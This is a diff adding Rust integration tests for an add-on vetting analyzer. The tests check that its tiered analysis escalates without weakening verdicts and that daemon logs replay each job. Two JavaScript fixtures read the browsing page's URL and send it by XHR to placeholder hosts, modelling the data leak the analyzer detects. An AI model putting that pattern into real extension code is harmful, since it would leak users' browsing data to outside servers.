@@ -1,0 +1,245 @@
+//! The tiered vetting ladder's end-to-end contracts: no-downgrade
+//! golden identity over the corpus and the attack gallery, tier-0
+//! imprecision escalating instead of flagging, tier-0 budget exhaustion
+//! escalating instead of surfacing as a timeout, and the escalated
+//! lifecycle reconstructing from the daemon's event log alone.
+
+use addon_sig::ladder::{vet_ladder, EscalationReason};
+use addon_sig::sigserve::{Client, ServeConfig, Server};
+use addon_sig::{analyze_addon, Error};
+use jsanalysis::{AnalysisConfig, BudgetKind, LadderRung, LadderSpec};
+use std::sync::Arc;
+
+/// A ladder whose first rung is tier0 with the given step budget and
+/// whose final rung is full sensitivity — the shape `vet --ladder`
+/// builds, with the triage budget under test control.
+fn ladder_with_tier0_budget(budget: usize) -> LadderSpec {
+    LadderSpec {
+        rungs: vec![
+            LadderRung {
+                name: "tier0".to_owned(),
+                config: AnalysisConfig::tier0().with_step_budget(budget),
+            },
+            LadderRung {
+                name: "full".to_owned(),
+                config: AnalysisConfig::tier_full(),
+            },
+        ],
+    }
+}
+
+/// The no-downgrade golden: over every corpus addon and every gallery
+/// attack, the ladder's terminal signature is byte-identical to a
+/// plain full-sensitivity analysis. Resolving at tier 0 is only sound
+/// because a flow-free triage signature IS the full signature; this
+/// test is that argument, checked against the whole suite.
+#[test]
+fn ladder_never_downgrades_corpus_or_gallery_signatures() {
+    let ladder = LadderSpec::standard();
+    let suite = corpus::addons()
+        .into_iter()
+        .map(|a| (a.name, a.source))
+        .chain(corpus::attacks::attacks().into_iter().map(|a| (a.name, a.source)));
+    for (name, source) in suite {
+        let full = analyze_addon(source).unwrap_or_else(|e| panic!("{name}: {e}"));
+        let run = vet_ladder(source, &ladder);
+        let report = run
+            .result
+            .unwrap_or_else(|e| panic!("{name}: ladder errored: {e}"));
+        assert_eq!(
+            report.signature.to_json(),
+            full.signature.to_json(),
+            "{name}: ladder signature (terminal tier {}) diverged from full sensitivity",
+            run.tier
+        );
+    }
+}
+
+/// An addon that is flagged at tier 0 but benign at full sensitivity:
+/// `pick` only reads the URL under a flag no caller passes, and k=0
+/// merges the call sites into an unknown flag, so the context-insensitive
+/// rung sees a spurious flow. The ladder's whole point: that imprecision
+/// escalates (sound direction — suspicion climbs, it never acquits), and
+/// the full rung's flow-free verdict is the one the client sees.
+#[test]
+fn tier0_imprecision_escalates_and_the_full_tier_acquits() {
+    let source = "function pick(flag) {\n\
+                  \x20 if (flag === \"yes\") { return content.location.href; }\n\
+                  \x20 return \"fallback:\" + flag;\n\
+                  }\n\
+                  var r = XHRWrapper(\"http://metrics.example.com/beat\");\n\
+                  r.send(pick(\"no\"));\n\
+                  r.send(pick(\"maybe\"));\n";
+    // Establish the premise: full sensitivity sees no flows...
+    let full = analyze_addon(source).expect("full analysis");
+    assert!(
+        full.signature.flows.is_empty(),
+        "premise: full sensitivity must acquit:\n{}",
+        full.signature
+    );
+    // ...but a bare k=0 run (no ladder) flags it.
+    let k0 = addon_sig::Pipeline::new()
+        .config(AnalysisConfig::tier0())
+        .run(source)
+        .expect("tier0 analysis");
+    assert!(
+        !k0.signature.flows.is_empty(),
+        "premise: tier 0 must see the spurious flow"
+    );
+    // The ladder escalates on that flow and delivers the acquittal.
+    let run = vet_ladder(source, &LadderSpec::standard());
+    assert_eq!(run.tier, "full");
+    assert_eq!(run.escalations.len(), 1);
+    assert_eq!(run.escalations[0].reason, EscalationReason::Flows);
+    let report = run.result.expect("terminal verdict");
+    assert!(report.signature.flows.is_empty());
+    assert_eq!(report.signature.to_json(), full.signature.to_json());
+}
+
+/// The timeout-suppression regression (tier-0 budgets are an internal
+/// pacing device, not a verdict): with a one-step triage budget, every
+/// gallery attack exhausts tier 0 instantly — and every one must
+/// escalate and come back with the full rung's exact verdict, never a
+/// client-visible timeout.
+#[test]
+fn tier0_budget_exhaustion_escalates_across_the_gallery() {
+    let ladder = ladder_with_tier0_budget(1);
+    for attack in corpus::attacks::attacks() {
+        let run = vet_ladder(attack.source, &ladder);
+        assert_eq!(run.tier, "full", "{}: must escalate off the starved rung", attack.name);
+        assert_eq!(run.escalations.len(), 1);
+        assert_eq!(
+            run.escalations[0].reason,
+            EscalationReason::Budget,
+            "{}: a one-step budget exhausts before any flow is seen",
+            attack.name
+        );
+        let report = run
+            .result
+            .unwrap_or_else(|e| panic!("{}: starved tier 0 must not surface: {e}", attack.name));
+        let full = analyze_addon(attack.source).expect("full analysis");
+        assert_eq!(report.signature.to_json(), full.signature.to_json(), "{}", attack.name);
+    }
+}
+
+/// Only final-rung exhaustion is a real timeout, and the outcome names
+/// the rung that exhausted — the postmortem contract.
+#[test]
+fn final_rung_exhaustion_surfaces_and_names_the_rung() {
+    let ladder = LadderSpec {
+        rungs: vec![
+            LadderRung {
+                name: "tier0".to_owned(),
+                config: AnalysisConfig::tier0().with_step_budget(1),
+            },
+            LadderRung {
+                name: "full_starved".to_owned(),
+                config: AnalysisConfig::tier_full().with_step_budget(1),
+            },
+        ],
+    };
+    let run = vet_ladder("var x = 1; var y = x + 'z';", &ladder);
+    assert_eq!(run.tier, "full_starved", "the exhausting rung is named");
+    assert_eq!(run.escalations.len(), 1, "tier 0 escalated, the final rung cannot");
+    assert!(
+        matches!(
+            run.result,
+            Err(Error::Budget {
+                kind: BudgetKind::Steps,
+                ..
+            })
+        ),
+        "final-rung exhaustion is the terminal verdict"
+    );
+}
+
+/// The daemon-side contract, end to end: a ladder daemon resolves a
+/// benign addon at tier 0 and escalates a flowful one (both stamped
+/// with their producing tier on the wire), a starved triage rung never
+/// surfaces as a client-visible timeout, and the escalated lifecycle
+/// reconstructs from the event log alone — one job id, two attempts,
+/// one escalation, one terminal verdict.
+#[test]
+fn escalated_lifecycle_replays_from_the_daemon_log_alone() {
+    const BENIGN: &str = "var greeting = 'hello' + ' world';";
+    const FLOWFUL: &str = "var u = content.location.href;\n\
+                           var r = XHRWrapper(\"http://x.example.com\");\n\
+                           r.send(u);";
+    let log = Arc::new(sigobs::EventLog::in_memory(sigobs::Level::Info).with_tail_cap(4096));
+    let server = Server::builder()
+        .config(ServeConfig {
+            ladder: Some(LadderSpec::standard()),
+            log: Some(log.clone()),
+            workers: 2,
+            ..ServeConfig::default()
+        })
+        .addr("127.0.0.1:0")
+        .analyze(addon_sig::service_engine)
+        .start()
+        .expect("bind ladder daemon");
+    let mut client = Client::connect(server.local_addr()).expect("connect");
+
+    let benign = client.vet_source(Some("benign"), BENIGN).expect("vet benign");
+    assert_eq!(benign["verdict"], "ok");
+    assert_eq!(benign["tier"].as_str(), Some("tier0"), "wire tier stamp");
+    assert!(benign["signature"]["flows"].as_array().is_some_and(Vec::is_empty));
+
+    let flowful = client.vet_source(Some("flowful"), FLOWFUL).expect("vet flowful");
+    assert_eq!(flowful["verdict"], "ok");
+    assert_eq!(flowful["tier"].as_str(), Some("full"), "escalated verdicts carry the full tier");
+    assert!(!flowful["signature"]["flows"].as_array().unwrap().is_empty());
+
+    assert_eq!(client.shutdown().expect("shutdown")["kind"], "shutdown_ack");
+    server.join();
+
+    // Reconstruct both lifecycles from the log text alone.
+    log.flush();
+    let text = log.tail_lines().join("\n");
+    let replay = sigobs::replay::replay_log(&text).expect("ladder log must replay");
+    let escalated: Vec<_> = replay
+        .timelines
+        .values()
+        .filter(|t| !t.escalations.is_empty())
+        .collect();
+    assert_eq!(escalated.len(), 1, "exactly one escalated lifecycle");
+    let t = escalated[0];
+    assert_eq!(t.validate(), Ok(sigobs::replay::Outcome::Computed));
+    assert_eq!(t.attempts.len(), 2, "tier0 attempt plus full attempt");
+    assert_eq!(t.tier.as_deref(), Some("full"));
+    let (_, from, to, reason) = &t.escalations[0];
+    assert_eq!((from.as_str(), to.as_str(), reason.as_str()), ("tier0", "full", "flows"));
+    let resolved: Vec<_> = replay
+        .timelines
+        .values()
+        .filter(|t| t.escalations.is_empty() && t.tier.as_deref() == Some("tier0"))
+        .collect();
+    assert_eq!(resolved.len(), 1, "the benign job resolved at tier 0");
+}
+
+/// A ladder daemon whose triage rung is starved must still never show
+/// the client a timeout for anything the full rung can finish.
+#[test]
+fn starved_triage_rung_never_surfaces_a_timeout() {
+    let server = Server::builder()
+        .config(ServeConfig {
+            ladder: Some(ladder_with_tier0_budget(1)),
+            workers: 2,
+            ..ServeConfig::default()
+        })
+        .addr("127.0.0.1:0")
+        .analyze(addon_sig::service_engine)
+        .start()
+        .expect("bind ladder daemon");
+    let mut client = Client::connect(server.local_addr()).expect("connect");
+    for attack in corpus::attacks::attacks() {
+        let resp = client.vet_source(Some(attack.name), attack.source).expect("vet");
+        assert_eq!(
+            resp["verdict"], "ok",
+            "{}: a starved triage budget must escalate, not time out",
+            attack.name
+        );
+        assert_eq!(resp["tier"].as_str(), Some("full"), "{}", attack.name);
+    }
+    assert_eq!(client.shutdown().expect("shutdown")["kind"], "shutdown_ack");
+    server.join();
+}
